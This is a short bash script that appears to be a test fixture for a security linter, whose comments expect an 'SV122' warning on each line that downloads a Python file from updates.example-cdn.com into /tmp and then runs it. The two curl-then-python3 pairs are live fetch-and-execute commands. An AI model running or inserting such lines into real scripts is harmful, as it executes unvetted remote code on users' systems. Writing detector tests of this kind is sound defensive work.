#!/bin/bash
curl -fsSL -o /tmp/update.py https://updates.example-cdn.com/u.py # want "SV122: .*downloads /tmp/update.py from updates.example-cdn.com and runs it"
python3 /tmp/update.py
curl -fsSL -o /tmp/patch.py https://updates.example-cdn.com/p.py # want "SV122: .*downloads /tmp/patch.py from updates.example-cdn.com and runs it"
python3 -W ignore /tmp/patch.py
